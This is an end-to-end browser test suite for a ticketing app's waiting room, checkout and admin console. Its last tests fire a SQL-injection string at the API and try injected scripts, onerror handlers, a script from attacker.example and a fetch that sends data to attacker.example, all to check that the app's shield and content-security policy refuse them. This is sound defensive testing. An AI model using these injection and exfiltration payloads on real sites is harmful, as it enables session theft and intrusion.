// Callbacks passed to page.evaluate run in the browser, so they use DOM types.
/// <reference lib="dom" />
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdirSync } from 'node:fs'
import path from 'node:path'
import { before, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import axe from 'axe-core'
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
import { startServerProcess } from '../support/server.process.ts'

const root = fileURLToPath(new URL('../../', import.meta.url))
const screenshots = path.join(root, 'test-results', 'screenshots')
const viewports = { phone: { width: 390, height: 844 }, desktop: { width: 1280, height: 800 } } as const
const admin = { email: 'admin@example.com', password: 'browser-test-secret' }
/** Every wait in these tests is bounded; the room admits within a few seconds at this tick. */
const wait = { timeout: 30_000 }

function chromiumPath(): string {
  const found = spawnSync('sh', ['-c', 'command -v chromium'], { encoding: 'utf8' }).stdout.trim()
  return found || '/usr/bin/chromium'
}

/** Builds the bundle from the current source, so the test never runs a stale build. */
function buildWeb(): void {
  const vite = path.join(root, 'node_modules', 'vite', 'bin', 'vite.js')
  const built = spawnSync(
    process.execPath,
    [vite, 'build', '--config', 'web/vite.config.ts', '--logLevel', 'warn'],
    {
      cwd: root,
      encoding: 'utf8',
    },
  )
  assert.equal(built.status, 0, `vite build failed:\n${built.stdout}\n${built.stderr}`)
}

interface Watched {
  page: Page
  errors: string[]
}

/**
 * Reports every Content-Security-Policy violation on the page as a console error, blocked URL and
 * directive named, so that the console assertion covers the policy too. Runs before the page's
 * own scripts; scripts a test adds through DevTools (page.evaluate) are not subject to the policy.
 */
function reportPolicyViolations(): void {
  const seen: string[] = []
  ;(window as unknown as { policyViolations: string[] }).policyViolations = seen
  document.addEventListener('securitypolicyviolation', (event) => {
    const violation = `${event.effectiveDirective} blocked ${event.blockedURI || 'inline'}`
    seen.push(violation)
    console.error(`CSP violation: ${violation}`)
  })
}

const policyViolations = (page: Page) =>
  page.evaluate(() =>
    [...new Set((window as unknown as { policyViolations: string[] }).policyViolations)].sort(),
  )

/** A page whose console errors, CSP violations and uncaught exceptions are collected for the final assertion. */
async function openPage(context: BrowserContext, name: string): Promise<Watched> {
  await context.addInitScript(reportPolicyViolations)
  const page = await context.newPage()
  const errors: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(`${name}: ${message.text()}`)
  })
  page.on('pageerror', (error) => errors.push(`${name}: ${error.message}`))
  return { page, errors }
}

async function assertAccessible(page: Page, name: string): Promise<void> {
  // Evaluated through DevTools: the page's policy refuses inline scripts, as it should.
  await page.evaluate(axe.source)
  const violations = await page.evaluate(async () => {
    const result = await (window as unknown as { axe: typeof axe }).axe.run(document, {
      resultTypes: ['violations'],
    })
    return result.violations.map((v) => ({
      id: v.id,
      impact: v.impact,
      nodes: v.nodes.map((n) => n.target.join(' ')).slice(0, 3),
    }))
  })
  const serious = violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
  assert.deepEqual(serious, [], `${name}: accessibility violations ${JSON.stringify(serious, null, 2)}`)
}

async function setLocale(page: Page, locale: 'en' | 'ko'): Promise<void> {
  await page.selectOption('.lang select', locale)
  await page.waitForFunction((l) => document.documentElement.lang === l, locale, wait)
}

/**
 * Screenshots of what the page shows now, phone and desktop, English and Korean, each checked
 * by axe; switching language in the app keeps the page's state (no reload).
 */
async function capture(page: Page, name: string): Promise<void> {
  const original = page.viewportSize()
  for (const locale of ['en', 'ko'] as const) {
    await setLocale(page, locale)
    for (const [size, viewport] of Object.entries(viewports)) {
      await page.setViewportSize(viewport)
      await page.screenshot({ path: path.join(screenshots, `${name}.${size}.${locale}.png`), fullPage: true })
    }
    await assertAccessible(page, `${name} (${locale})`)
  }
  await setLocale(page, 'en')
  if (original) await page.setViewportSize(original)
}

const text = async (page: Page, testId: string) => (await page.getByTestId(testId).textContent())?.trim()

/** The admin, through the API, opens a sale of 10 tickets with a waiting room; returns its id. */
async function openSale(base: string, name: string, queue: Record<string, unknown>): Promise<string> {
  const login = await fetch(`${base}/api/v1/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(admin),
  })
  const { accessToken } = (await login.json()) as { accessToken: string }
  const created = await fetch(`${base}/api/v1/events`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${accessToken}` },
    body: JSON.stringify({
      name,
      capacity: 10,
      priceCents: 1000,
      currency: 'USD',
      salesOpenAt: new Date(Date.now() - 60_000).toISOString(),
      queue: { enabled: true, ...queue },
    }),
  })
  assert.equal(created.status, 201)
  return ((await created.json()) as { id: string }).id
}

/** The server (admin account, fast ticker) and Chromium, with every page's errors collected. */
async function startStack(t: import('node:test').TestContext) {
  mkdirSync(screenshots, { recursive: true })
  const server = await startServerProcess(t, {
    ADMIN_EMAIL: admin.email,
    ADMIN_PASSWORD: admin.password,
    QUEUE_TICK_MS: '50',
    QUEUE_REFRESH_MS: '50',
  })
  const browser: Browser = await chromium.launch({
    executablePath: chromiumPath(),
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
    ],
  })
  t.after(() => browser.close())
  const watched: Watched[] = []
  const newContext = async (name: string, viewport: { width: number; height: number }) => {
    const context = await browser.newContext({ baseURL: server.url, viewport, locale: 'en-US' })
    const w = await openPage(context, name)
    watched.push(w)
    return w.page
  }
  return { server, watched, newContext }
}

before(buildWeb)

async function signInAsAdmin(page: Page): Promise<void> {
  await page.goto('/admin')
  await page.fill('#email', admin.email)
  await page.fill('#password', admin.password)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('heading', { name: 'Create an event' }).waitFor(wait)
}

test('an admin opens a sale with a waiting room; three buyers are admitted in join order and buy', async (t) => {
  const { server, watched, newContext } = await startStack(t)
  // The admin signs in; the form refuses bad input before sending it.
  const console_ = await newContext('admin', viewports.desktop)
  const served = await console_.goto('/admin')
  // The whole sale below runs under the app's policy; a violation would be a console error.
  assert.match((await served?.headerValue('content-security-policy')) ?? '', /script-src 'self'/)
  await console_.getByRole('button', { name: 'Sign in' }).click()
  await console_.getByText('Enter an email address like name@example.com.').waitFor(wait)
  await capture(console_, 'admin-login')
  await console_.fill('#email', admin.email)
  await console_.fill('#password', admin.password)
  await console_.getByRole('button', { name: 'Sign in' }).click()
  await console_.getByRole('heading', { name: 'Create an event' }).waitFor(wait)

  await console_.fill('#name', 'Harbour Lights Live')
  await console_.fill('#capacity', '10')
  await console_.fill('#priceCents', '')
  await console_.getByRole('button', { name: 'Create event' }).click()
  await console_.getByText('Enter a price of 0 or more.').waitFor(wait)
  await console_.fill('#priceCents', '50')
  await console_.fill('#perUserLimit', '2')
  await console_.fill('#admissionRatePerSec', '1')
  await console_.fill('#maxActive', '10')
  await console_.getByRole('button', { name: 'Create event' }).click()
  await console_.getByText('Created “Harbour Lights Live”.').waitFor(wait)
  // Paused while the crowd arrives, so all three see their places before anyone is let in.
  await console_.getByRole('button', { name: 'Pause' }).click()
  await console_.waitForFunction(
    () => document.querySelector('[data-testid=room-state]')?.textContent === 'Paused',
    undefined,
    wait,
  )

  // Three buyers, each in a browser context of their own, join in order.
  const buyers: Page[] = []
  for (const [i, name] of ['ana', 'bo', 'chul'].entries()) {
    const page = await newContext(name, i === 1 ? viewports.phone : viewports.desktop)
    await page.goto('/')
    await page.getByRole('link', { name: 'Harbour Lights Live' }).click()
    await page.getByRole('button', { name: 'Join the line' }).click()
    await page.waitForFunction(
      (n) => document.querySelector('[data-testid=position]')?.textContent === String(n),
      i + 1,
      wait,
    )
    await page.getByTestId('paused').waitFor(wait)
    buyers.push(page)
  }
  const [ana, bo, chul] = buyers as [Page, Page, Page]
  const eventId = new URL(ana.url()).pathname.split('/')[2]
  assert.equal(await text(bo, 'ahead'), '1')
  assert.equal(await text(chul, 'ahead'), '2')
  await capture(chul, 'waiting-room-paused')

  // A reload keeps the place in line.
  await bo.reload()
  await bo.waitForFunction(
    () => document.querySelector('[data-testid=position]')?.textContent === '2',
    undefined,
    wait,
  )

  // One admission a second: slow enough to see the order of admission, fast enough for a test.
  const statusOf = async (page: Page) => {
    const ticket = await page.evaluate(
      (key) => (JSON.parse(localStorage.getItem(key) ?? 'null') as { ticket: string } | null)?.ticket,
      `bw.ticket.${eventId}`,
    )
    assert.ok(ticket, 'the ticket is kept in localStorage')
    const response = await fetch(`${server.url}/api/v1/events/${eventId}/queue/status`, {
      headers: { 'x-queue-ticket': ticket },
    })
    return ((await response.json()) as { state: string }).state
  }
  await console_.getByRole('button', { name: 'Open' }).click()
  // Sample the three places, last joiner first: the serving number only grows, so if a later
  // joiner is admitted every earlier one, asked after it, must be admitted too.
  const admittedOrder: string[] = []
  for (let sample = 0; sample < 300 && admittedOrder.length < 3; sample++) {
    const states = [] as string[]
    for (const page of [chul, bo, ana]) states.unshift(await statusOf(page))
    const admitted = states.map((state) => state === 'admitted')
    const prefix = admitted.indexOf(false) === -1 ? 3 : admitted.indexOf(false)
    assert.ok(
      admitted.slice(prefix).every((a) => !a),
      `admitted out of join order: ${JSON.stringify(states)}`,
    )
    for (const name of ['ana', 'bo', 'chul'].slice(0, prefix))
      if (!admittedOrder.includes(name)) admittedOrder.push(name)
    if (sample === 0) await capture(bo, 'waiting-room')
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  assert.deepEqual(admittedOrder, ['ana', 'bo', 'chul'])

  const buy = async (page: Page, name: string) => {
    // Each page moves on to the shop by itself once admitted.
    await page.getByTestId('shop').waitFor(wait)
    await page.getByRole('button', { name: 'Hold tickets' }).click()
    await page.getByTestId('hold-countdown').waitFor(wait)
    await capture(page, `checkout-${name}`)
    // A double click must not create two orders.
    await page.getByRole('button', { name: 'Pay' }).dblclick()
    await page.getByTestId('confirmation').waitFor(wait)
    await capture(page, `confirmation-${name}`)
    await page.getByRole('link', { name: 'My orders' }).first().click()
    await page.locator('tr[data-order-status=paid]').first().waitFor(wait)
    assert.equal(await page.locator('tbody tr').count(), 1, `${name} has exactly one order`)
  }
  await buy(ana, 'ana')
  await buy(bo, 'bo')
  await buy(chul, 'chul')
  await capture(chul, 'my-orders')

  // The admin console shows the three sales.
  await console_.waitForFunction(
    () => document.querySelector('[data-testid=taken]')?.textContent?.replace(/\s/g, '') === '3/10',
    undefined,
    wait,
  )
  assert.equal(await text(console_, 'revenue'), '$150.00')
  await console_.waitForFunction(
    () => document.querySelectorAll('[data-testid=admin-orders] tr[data-order-status=paid]').length === 3,
    undefined,
    wait,
  )
  // The audit log lists what the admin did, newest first.
  await console_.getByRole('button', { name: 'Newest' }).click()
  await console_.waitForFunction(
    () =>
      ['event.created', 'queue.paused', 'auth.login'].every((action) =>
        document.querySelector(`[data-testid=admin-audit] tr[data-action="${action}"]`),
      ),
    undefined,
    wait,
  )
  // The security log lists a request the shield refused.
  const attack = await fetch(`${server.url}/api/v1/events?limit=${encodeURIComponent("1' OR '1'='1")}`)
  assert.equal(attack.status, 403)
  await console_.getByRole('button', { name: 'Refresh' }).click()
  await console_.locator('[data-testid=admin-security] tr[data-action=BLOCK]').first().waitFor(wait)
  await capture(console_, 'admin-console')

  // Signing out ends the session on the server too: the token the console held is refused.
  const adminToken = await console_.evaluate(
    () =>
      (JSON.parse(localStorage.getItem('bw.session') ?? 'null') as { accessToken: string } | null)
        ?.accessToken,
  )
  assert.ok(adminToken, 'the console keeps its session in localStorage')
  await console_.getByRole('button', { name: 'Sign out' }).click()
  await console_.getByRole('button', { name: 'Sign in' }).waitFor(wait)
  const me = async () =>
    (await fetch(`${server.url}/api/v1/me`, { headers: { authorization: `Bearer ${adminToken}` } })).status
  for (let i = 0; i < 50 && (await me()) !== 401; i++)
    await new Promise((resolve) => setTimeout(resolve, 100))
  assert.equal(await me(), 401, 'the signed-out token is refused')

  await ana.goto('/')
  await ana.getByRole('link', { name: 'Harbour Lights Live' }).waitFor(wait)
  await capture(ana, 'events')

  const errors = watched.flatMap((w) => w.errors)
  assert.deepEqual(errors, [], 'no console errors')
})

test('a seated event without a waiting room: pick seats, a declined card, then a paid order', async (t) => {
  const { watched, newContext } = await startStack(t)
  const console_ = await newContext('admin', viewports.desktop)
  await signInAsAdmin(console_)
  await console_.fill('#name', 'Seoul Arena Night')
  await console_.getByRole('radio', { name: 'Seated' }).check()
  await console_.fill('#rows', '3')
  await console_.fill('#seatsPerRow', '8')
  await console_.selectOption('#currency', 'KRW')
  await console_.fill('#priceCents', '99000')
  await console_.getByRole('checkbox', { name: 'Put a waiting room in front of the shop' }).uncheck()
  await console_.getByRole('button', { name: 'Create event' }).click()
  await console_.getByText('Created “Seoul Arena Night”.').waitFor(wait)

  const buyer = await newContext('dae', viewports.phone)
  await buyer.goto('/')
  await buyer.getByRole('link', { name: 'Seoul Arena Night' }).click()
  await buyer.getByRole('button', { name: 'Section A, row B, seat 3: Free' }).click()
  await buyer.getByRole('button', { name: 'Section A, row B, seat 4: Free' }).click()
  await capture(buyer, 'seat-map')
  await buyer.getByRole('button', { name: 'Hold tickets' }).click()
  await buyer.getByTestId('hold-countdown').waitFor(wait)

  // Declined: the order fails, the seats go back on sale, and the page says so.
  await buyer.getByRole('radio', { name: /Declined/ }).check()
  await buyer.getByRole('button', { name: 'Pay' }).click()
  await buyer.getByTestId('order-failed').waitFor(wait)
  await capture(buyer, 'payment-declined')
  await buyer.getByRole('button', { name: 'Section A, row B, seat 3: Free' }).waitFor(wait)

  await buyer.getByRole('button', { name: 'Section A, row B, seat 3: Free' }).click()
  await buyer.getByRole('button', { name: 'Section A, row B, seat 4: Free' }).click()
  await buyer.getByRole('button', { name: 'Hold tickets' }).click()
  await buyer.getByRole('radio', { name: /Approved/ }).check()
  await buyer.getByRole('button', { name: 'Pay' }).click()
  await buyer.getByTestId('confirmation').waitFor(wait)
  assert.match((await buyer.getByTestId('confirmation').textContent()) ?? '', /₩198,000/)

  await buyer.goto(new URL(buyer.url()).pathname)
  await buyer.getByRole('button', { name: 'Section A, row B, seat 3: Taken' }).waitFor(wait)
  await buyer.getByRole('link', { name: 'My orders' }).first().click()
  await buyer.locator('tr[data-order-status=paid]').waitFor(wait)
  assert.equal(await buyer.locator('tr[data-order-status=payment_failed]').count(), 1)
  await capture(buyer, 'my-orders-seated')
  assert.deepEqual(
    watched.flatMap((w) => w.errors),
    [],
    'no console errors',
  )
})

test('while the shop is full the line says so, and moves on when the shopper inside has paid', async (t) => {
  const { server, watched, newContext } = await startStack(t)
  const id = await openSale(server.url, 'One At A Time', { admissionRatePerSec: 5, maxActive: 1 })

  const first = await newContext('first', viewports.desktop)
  await first.goto(`/events/${id}`)
  await first.getByRole('button', { name: 'Join the line' }).click()
  await first.getByTestId('shop').waitFor(wait)

  // The one place is taken: the next in line is told why the line stands still.
  const second = await newContext('second', viewports.phone)
  await second.goto(`/events/${id}`)
  await second.getByRole('button', { name: 'Join the line' }).click()
  await second.getByTestId('shop-full').waitFor(wait)
  await capture(second, 'waiting-room-shop-full')

  await first.getByRole('button', { name: 'Hold tickets' }).click()
  await first.getByRole('button', { name: 'Pay' }).click()
  await first.getByTestId('confirmation').waitFor(wait)
  await second.getByTestId('shop').waitFor(wait)
  assert.deepEqual(
    watched.flatMap((w) => w.errors),
    [],
    'no console errors',
  )
})

test('a sale that asks for proof of work: the page solves it in a worker under the policy, then joins', async (t) => {
  const { server, watched, newContext } = await startStack(t)
  const id = await openSale(server.url, 'Bots Need Not Apply', {
    admissionRatePerSec: 5,
    maxActive: 10,
    pow: 'on',
  })

  const buyer = await newContext('buyer', viewports.phone)
  await buyer.goto(`/events/${id}`)
  const challenge = buyer.waitForResponse((r) => r.url().endsWith('/queue/challenge'))
  const joined = buyer.waitForResponse((r) => r.url().includes('/queue/join'))
  await buyer.getByRole('button', { name: 'Join the line' }).click()
  assert.equal((await challenge).status(), 200)
  const join = await joined
  assert.equal(join.status(), 201)
  assert.ok(join.request().headers()['x-queue-pow'], 'the join carried the solution')
  await buyer.getByTestId('shop').waitFor(wait)
  assert.deepEqual(await policyViolations(buyer), [])
  assert.deepEqual(
    watched.flatMap((w) => w.errors),
    [],
    'no console errors',
  )
})

// Issue 15.12. To see it fail, drop the content-security-policy hook in src/modules/web/web.plugin.ts:
// the injected script runs and nothing is reported.
test('the page refuses scripts injected into it and requests to other origins, and says so', async (t) => {
  const { newContext } = await startStack(t)
  const page = await newContext('attacker', viewports.desktop)
  await page.goto('/')
  await page.getByRole('heading', { name: 'Events' }).waitFor(wait)
  // What an injection would try: an inline script, an inline handler, a foreign script, and
  // sending the stored session elsewhere. Each attempt that throws is refused at once.
  const thrown = await page.evaluate(async () => {
    // Pairs, not an object: tsx would name the functions with a helper the page does not have.
    const attempts: [string, () => unknown][] = [
      [
        'inline script',
        () => {
          const script = document.createElement('script')
          script.textContent = 'window.stolen = localStorage.length'
          document.body.append(script)
        },
      ],
      [
        'inline handler',
        () => {
          const image = document.createElement('img')
          image.setAttribute('onerror', 'window.stolen = 1')
          image.setAttribute('src', 'data:,')
          document.body.append(image)
        },
      ],
      [
        'foreign script',
        () => {
          const script = document.createElement('script')
          script.setAttribute('src', 'https://attacker.example/steal.js')
          document.body.append(script)
        },
      ],
      [
        'markup with a script',
        () => {
          document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">')
        },
      ],
      [
        'sending data elsewhere',
        () => fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }),
      ],
    ]
    const refused: string[] = []
    for (const [name, attempt] of attempts) {
      try {
        await attempt()
      } catch {
        refused.push(name)
      }
    }
    return refused
  })
  // Trusted Types refuse script text, handlers, script URLs and markup before they reach the DOM;
  // connect-src refuses the request. Each refusal is also reported as a violation.
  assert.deepEqual(thrown, [
    'inline script',
    'inline handler',
    'foreign script',
    'markup with a script',
    'sending data elsewhere',
  ])
  await page.waitForFunction(
    () => new Set((window as unknown as { policyViolations: string[] }).policyViolations).size >= 2,
    undefined,
    wait,
  )
  assert.deepEqual(await policyViolations(page), [
    'connect-src blocked https://attacker.example/collect',
    'require-trusted-types-for blocked trusted-types-sink',
  ])
  assert.equal(await page.evaluate(() => (window as unknown as { stolen?: number }).stolen), undefined)
})
